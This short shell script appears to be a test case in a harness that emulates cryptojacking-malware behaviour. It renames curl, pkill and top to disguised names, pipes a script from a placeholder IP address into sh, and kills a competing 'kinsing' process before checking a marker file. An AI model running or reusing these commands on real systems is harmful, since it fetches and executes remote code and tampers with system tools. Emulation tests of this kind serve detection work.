#!/bin/sh
. /opt/case/case.sh

mv /usr/bin/curl /usr/bin/tntcurl
mv /usr/bin/pkill /usr/bin/tntpk
mv /usr/bin/top /usr/bin/tntop
tntcurl -s http://203.0.113.10/payload.sh | sh
tntpk -x kinsing || true
test -e /tmp/reached
took_place
